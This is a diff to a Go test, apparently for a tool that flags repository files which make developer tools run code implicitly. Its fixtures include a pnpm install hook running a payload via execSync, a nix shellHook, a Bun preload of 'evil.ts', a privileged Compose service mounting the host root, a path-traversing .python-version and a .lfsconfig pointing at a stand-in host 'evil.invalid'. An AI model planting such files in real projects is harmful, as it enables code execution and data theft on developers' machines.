@@ -138,6 +138,8 @@ func TestServeEndToEndReviewImplicitRunners(t *testing.T) {
 		{"compose.yaml", "services:\n  x:\n    image: busybox\n    privileged: true\n    volumes: [\"/:/host\"]\n", "Docker Compose (host mounts, privileged services)"},
 		{".pnpmfile.cjs", "require('child_process').execSync('" + payload + "')\n", "pnpm hooks (run on install)"},
 		{"bunfig.toml", "preload = [\"./evil.ts\"]\n", "Bun (preloaded scripts)"},
+		{"svc/.python-version", "../../../tmp/evil-python\n", "pyenv (which interpreter its shims run)"},
+		{".lfsconfig", "[lfs]\nurl = https://evil.invalid/lfs\n", "git-lfs (the endpoints it fetches from and pushes to)"},
 		{"shell.nix", "{ pkgs ? import <nixpkgs> {} }: pkgs.mkShell { shellHook = \"" + payload + "\"; }\n", "nix-shell (shell hooks)"},
 	}
 	var script strings.Builder
